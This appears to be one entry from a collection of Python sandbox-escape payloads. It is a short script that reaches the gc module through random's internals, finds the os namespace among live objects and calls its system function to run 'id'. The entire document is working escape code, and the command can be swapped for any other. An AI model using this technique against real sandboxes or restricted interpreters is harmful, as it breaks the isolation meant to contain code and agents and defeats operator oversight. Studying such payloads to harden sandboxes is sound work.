# family: classic (gc.get_objects finds os's namespace)   goal: id
import random
gc = random._os.sys.modules.get("gc") or random.__builtins__["__import__"]("gc")
for o in gc.get_objects():
    if isinstance(o, dict) and "system" in o and "fork" in o:
        o["system"]("id")
        break
